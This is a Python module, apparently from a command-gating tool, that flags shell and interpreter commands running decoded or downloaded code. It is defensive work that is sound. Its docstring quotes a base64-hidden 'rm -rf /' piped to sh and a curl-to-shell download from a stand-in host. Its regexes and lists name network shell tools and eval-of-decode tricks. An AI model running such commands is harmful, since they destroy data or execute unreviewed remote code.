"""Code the gate cannot read: decoded text and downloads fed to an interpreter.

The gate judges the text it is given. `echo cm0gLXJmIC8= | base64 -d | sh`
runs `rm -rf /`, but the gate sees only a decoder in front of a shell; `curl
https://x/i.sh | sh` runs whatever the server sends that minute. Both are a
program whose code is not in the text, and neither was a decision before
(issue 31): they passed silently.

What this module finds (the walker in shell.py and commands.py call it while
they build the Analysis; pure, no parsing of its own beyond a re-parse of a
substitution's text):

- decoded code (`gate.unreadable_code`): the output of a decoder (`base64 -d`,
  `base32 -d`, `basenc -d`, `xxd -r`, `uudecode`, `rev`, `tr SET1 SET2`,
  `openssl enc -d` / `openssl base64 -d`, `gpg -d`, `gzip -d`, `zcat`, ...)
  or of an inline program that decodes, read as code by a shell or an
  interpreter: through a pipe (`... | sh`, `... | python3 -`), a process
  substitution (`bash <(...)`, `sh < <(...)`, `source <(...)`), a command
  substitution (`sh -c "$(...)"`, `eval "$(...)"`, `python -c "$(...)"`), and
  inline programs that eval what they decode (`exec(bytes.fromhex(...))`,
  `exec(base64.b64decode(...))`, `eval(atob(...))`, PHP `eval(base64_decode(...))`,
  Perl `eval pack("H*", ...)`, PowerShell `-EncodedCommand`, `iex` of
  `FromBase64String`);
- downloaded code (`network.download_exec`): the same shapes where the text
  comes from a network client (`curl`, `wget -O-`, `nc`, `iwr`/`irm`, a
  program's own `urlopen`/`requests.get`), `iex (iwr ...)` and
  `Invoke-Expression` of a download included.

The checks that decide: checker.py (`gate.unreadable_code`, refused or flagged
by governance.unreadable) and network.py (`network.download_exec`, flagged in
every role, refused under network host unless network.download_exec =
"allow"). A program's own output (`eval "$(ssh-agent -s)"`, `source <(kubectl
completion bash)`) is neither: it stays what it was (dynamic_command).
"""

from __future__ import annotations

import re

from .model import MAX_DEPTH, Finding, deny
from .paths import LazyRe

# Code read from a decoder's output: (why, evidence).
DECODED = "decoded"
DOWNLOADED = "downloaded"

_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "yash", "rbash", "busybox"})
_SCRIPTERS = ("python", "pypy", "node", "nodejs", "perl", "ruby", "php", "lua", "deno", "bun", "pwsh",
              "powershell", "tclsh", "Rscript")
_FETCHERS = frozenset({"curl", "wget", "fetch", "http", "https", "xh", "xhs", "aria2c", "lynx", "links", "w3m",
                       "elinks", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "iwr", "irm",
                       "Invoke-WebRequest", "Invoke-RestMethod"})
_ALWAYS_DECODE = frozenset({"uudecode", "rev", "gunzip", "zcat", "bzcat", "xzcat", "zstdcat", "lz4cat", "unxz",
                            "bunzip2", "unzstd", "base64url", "ascii85", "certutil"})
_D_DECODE = frozenset({"base64", "gbase64", "base32", "basenc", "gzip", "bzip2", "xz", "zstd", "lz4", "gpg", "gpg2",
                       "age", "ccrypt", "brotli"})

# In an inline program: evaluating text, decoding text, fetching text.
_EVAL = LazyRe(r"\b(?:exec|eval|compile|execfile|Function|instance_eval|class_eval|module_eval|runInThisContext|"
               r"runInNewContext|create_function|system|popen|execSync|spawnSync|iex|Invoke-Expression)\s*[(${'\"]"
               r"|\beval\s+(?:pack|unpack|decode_base64|\$)|\|\s*(?:iex|Invoke-Expression)\b|\(\s*eval\s*\)", re.I)
_DECODE = LazyRe(r"\b(?:b64decode|b32decode|b16decode|a85decode|b85decode|urlsafe_b64decode|decodebytes|fromhex|"
                 r"unhexlify|a2b_base64|a2b_hex|decompress|marshal\.loads|pickle\.loads|rot13|rot_13|atob|"
                 r"decode_base64|decode64|base64_decode|hex2bin|gzinflate|gzuncompress|str_rot13|"
                 r"FromBase64String|unpack1?\s*\(\s*['\"][mH]|pack\s*\(\s*['\"][Hh]|codecs\.decode)\b"
                 r"|Buffer\.from\s*\([^)]*['\"](?:base64|hex|base64url)['\"]|\bchr\s*\(\s*\d+\s*\)\s*\+\s*chr", re.I)
_FETCH = LazyRe(r"\b(?:urlopen|urlretrieve|requests\.(?:get|post)|httpx\.(?:get|post)|http\.client|https?\.get|"
                r"Net::HTTP|LWP::Simple|open-uri|URI\.open|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|"
                r"DownloadData|Net\.WebClient|curl_exec)\b|\bfetch\s*\(|\bfile_get_contents\s*\(\s*['\"]https?:", re.I)
_PS_ENCODED = frozenset({"-enc", "-encodedcommand", "-e", "-ec", "-en", "-encoded", "-encodedc"})


def _interp(prog: str) -> str:
    """The interpreter family of a program name (python3.11 -> python), or ""."""
    for name in _SCRIPTERS:
        if prog == name or (prog.startswith(name) and re.fullmatch(r"[\d.]*(?:\.exe)?", prog[len(name):])):
            return name
    return ""


def decodes(ex) -> bool:
    """Whether this program's output is text decoded, decompressed, decrypted or reversed."""
    p, args = ex.prog, ex.args
    if p in _ALWAYS_DECODE:
        return True
    short = [a for a in args if a.startswith("-") and not a.startswith("--")]
    if p in _D_DECODE:  # -d in an option cluster (`-di`, `-dc`), -D (BSD base64), or the long spelling
        return any(a in ("--decode", "--decompress", "--uncompress", "--decrypt") for a in args) or any(
            "d" in a[1:] or a == "-D" for a in short)
    if p == "xxd":
        return any("r" in a[1:] for a in short) or "--revert" in args
    if p == "openssl":
        return bool(args) and args[0] not in ("s_client", "s_time") and "-d" in args
    if p == "tr":
        ops = [a for a in args if not a.startswith("-")]
        return len(ops) >= 2 and not any(a.startswith("-") and set(a[1:]) & set("ds") for a in short)
    if p == "printf" and ex.argv[1:] and not all(ex.literal[1:]):
        return "\\x" in ex.argv[1] or "\\0" in ex.argv[1] or "%b" in ex.argv[1]
    if _interp(p):
        return bool(_DECODE.search(" ".join(args)))
    return False


def fetches(ex) -> bool:
    """Whether this program's output comes from the network."""
    p = ex.prog
    if p in _FETCHERS:
        return not (p == "ssh" and not [a for a in ex.args if not a.startswith("-")][1:])
    if p == "openssl":
        return bool(ex.args) and ex.args[0] == "s_client"
    if _interp(p):
        return bool(_FETCH.search(" ".join(ex.args)))
    return False


def reads_code_from_stdin(ex) -> bool:
    """A shell or an interpreter that runs what it reads on stdin (`sh`, `bash -s`, `python3 -`, `perl`)."""
    p, args = ex.prog, ex.args
    if p in ("source", "."):
        return bool(args) and args[0] in ("/dev/stdin", "-", "/proc/self/fd/0", "/dev/fd/0")
    family = "sh" if p in _SHELLS else _interp(p)
    if not family or (p == "busybox" and (not args or args[0] not in _SHELLS)):
        return False
    if p == "busybox":
        args = args[1:]
    ops = [a for a in args if not a.startswith("-") or a == "-"]
    if family == "sh":
        opts = [a for a in args if a.startswith("-") and a != "-" and not a.startswith("--")]
        if any("c" in a[1:] for a in opts):
            return False
        return not ops or "-s" in args or any("s" in a[1:] for a in opts) or ops[0] in ("-", "/dev/stdin")
    if family in ("pwsh", "powershell"):
        return any(a.lower() in ("-command", "-c") for a in args) and "-" in args
    code_flags = {"python": ("-c", "-m"), "pypy": ("-c", "-m"), "perl": ("-e", "-E"), "ruby": ("-e",),
                  "php": ("-r",), "lua": ("-e",), "node": ("-e", "-p", "--eval", "--print"),
                  "nodejs": ("-e", "-p", "--eval", "--print"), "deno": (), "bun": (), "tclsh": (), "Rscript": ()}
    if any(a in code_flags.get(family, ()) or (a[:2] in code_flags.get(family, ()) and len(a) > 2) for a in args):
        return False
    if family in ("deno", "bun"):
        return args[:2] in (["run", "-"],)
    return not ops or ops[0] in ("-", "/dev/stdin")


def classify_execs(execs) -> str:
    """DOWNLOADED if one of these programs fetches, DECODED if one decodes, else ""."""
    if any(fetches(e) for e in execs):
        return DOWNLOADED
    if any(decodes(e) for e in execs):
        return DECODED
    return ""


def classify_text(text: str, depth: int, analyze) -> str:
    """What a substitution's text (`$(echo x | base64 -d)`, `<(curl -s u)`) produces, by the programs in it;
    `analyze` is the walker's own entry (commands.analyze_shell), handed in by the walker."""
    if not any(m in text for m in ("$(", "`", "<(")):
        return ""
    # Cached by text: the walker meets a nested substitution once from each enclosing level's re-parse and
    # once from its own walk, at different depths; uncached that is 2^levels parses (`eval $(eval $(...))`).
    kind = _CLASSIFIED.get(text)
    if kind is None:
        if len(_CLASSIFIED) >= 512:
            _CLASSIFIED.clear()
        kind = _CLASSIFIED[text] = _classify_text(text, depth, analyze)
    return kind


_CLASSIFIED: dict[str, str] = {}


def _classify_text(text: str, depth: int, analyze) -> str:
    body = text[2:-1] if text.startswith(("<(", ">(")) and text.endswith(")") else text
    if depth + 1 > MAX_DEPTH:
        return ""  # the walker refuses text nested this deep itself (gate.unjudgeable)

    try:
        sub = analyze(body, depth + 1)
    except RecursionError:
        return DECODED
    if sub.downloads:
        return DOWNLOADED
    if sub.unreadable_code:
        return DECODED
    return classify_execs(sub.execs)


def record(an, kind: str, how: str, evidence: str) -> None:
    """Note code the gate cannot read on the Analysis (an.unreadable or an.downloads)."""
    what = "downloaded from the network" if kind == DOWNLOADED else "decoded at run time"
    entry = (f"{how} runs code {what}, which the gate cannot read", evidence[:200])
    if kind == DOWNLOADED and entry not in an.downloads:
        an.downloads += (entry,)
    elif kind == DECODED and entry not in an.unreadable_code:
        an.unreadable_code += (entry,)


def inline(code: str, an, ex) -> None:
    """An inline program (`python -c`, `node -e`, `php -r`, `pwsh -c`) that evaluates text it decodes or fetches."""
    if not _EVAL.search(code):
        return
    ev = ex.text or code
    if _FETCH.search(code):
        record(an, DOWNLOADED, f"the {ex.prog} program", ev)
    elif _DECODE.search(code):
        record(an, DECODED, f"the {ex.prog} program", ev)


def powershell(ex, an) -> None:
    """`pwsh -EncodedCommand B64` (the whole program is base64), `pwsh -c "iex (iwr URL)"`."""
    if _interp(ex.prog) not in ("pwsh", "powershell"):
        return
    args = ex.args
    for i, a in enumerate(args):
        if a.lower() in _PS_ENCODED:
            record(an, DECODED, f"`{ex.prog} {a}`", ex.text or " ".join(ex.argv))
            return
        if a.lower() in ("-c", "-command") and i + 1 < len(args):
            inline(" ".join(args[i + 1:]), an, ex)
            return


def code_words(ex) -> list[tuple[str, bool, str]]:
    """The words this Exec runs as code that are not literal: (word, literal, how). A shell's or an
    interpreter's script operand (`bash <(curl ..)`), `source X`, a `<` redirect into one of them, and an
    interpreter's -c/-e code (`python -c "$(curl ..)"`); shells' -c and eval go through commands._nested_shell_word."""
    p, argv, lit = ex.prog, ex.argv, ex.literal
    out: list[tuple[str, bool, str]] = []
    family = "sh" if p in _SHELLS else ("source" if p in ("source", ".") else _interp(p))
    if not family:
        return out
    if reads_code_from_stdin(ex):  # `sh < <(curl ..)`; `python3 x.py < <(curl ..)` reads data, not code
        for op, target, tl in ex.redirects:
            if op == "<" and not tl:
                out.append((target, tl, f"`{p} < {target[:40]}`"))
    if family == "source":
        if len(argv) > 1:
            out.append((argv[1], lit[1], f"`{p} {argv[1][:40]}`"))
        return out
    flags = {"python": ("-c",), "pypy": ("-c",), "perl": ("-e", "-E"), "ruby": ("-e",), "php": ("-r",),
             "lua": ("-e",), "node": ("-e", "-p", "--eval", "--print"), "nodejs": ("-e", "-p", "--eval", "--print"),
             "pwsh": ("-c", "-command"), "powershell": ("-c", "-command"), "bun": ("-e", "--eval")}.get(family, ())
    for i in range(1, len(argv)):
        w = argv[i]
        if w.lower() in flags and i + 1 < len(argv):
            out.append((argv[i + 1], lit[i + 1], f"`{p} {w}`"))
            return out
        if family == "sh" and w.startswith("-") and "c" in w[1:] and not w.startswith("--"):
            return out  # sh -c CODE: commands._nested_shell_word judges it
        if not w.startswith("-") or w == "-":
            out.append((w, lit[i], f"`{p} {w[:40]}`"))
            return out
    return out


def expansion_words(ex, an, depth: int, analyze) -> None:
    """Classify the non-literal code words of this Exec (see code_words)."""
    for word, literal, how in code_words(ex):
        if literal:
            continue
        kind = classify_text(word, depth, analyze)
        if kind:
            record(an, kind, how, ex.text or " ".join(ex.argv))


def piped(an, upstream, consumers, evidence: str) -> None:
    """`A | B | sh`: the consumer runs as code what the stages before it print, when that is not known."""
    readers = [e for e in consumers if reads_code_from_stdin(e)]
    if not readers:
        return
    kind = classify_execs(upstream)
    if kind:
        record(an, kind, f"`... | {readers[0].prog}`", evidence)


HINT_UNREADABLE = ("Run the code as plain text the gate can read (decode it to a file first and run that file, or "
                   "pass the program itself); or set governance.unreadable = 'flag' in a role that should run it "
                   "(the regulated preset fixes 'deny').")


def decide(an, ctx):
    """gate.unreadable_code: refused under governance.unreadable = "deny" (unset: modes locked and readonly),
    a pass with that flag otherwise."""
    why, evidence = an.unreadable_code[0]
    mode = ctx.unreadable or ("flag" if ctx.mode == "open" else "deny")
    if mode == "deny":
        return deny("gate.unreadable_code", f"{why}, and role '{ctx.role}' refuses code it cannot read.",
                    HINT_UNREADABLE, evidence)
    return Finding(True, "gate.unreadable_code", f"{why}; allowed with a flag (governance.unreadable = 'flag').",
                   flags=("gate.unreadable_code",), evidence=evidence)
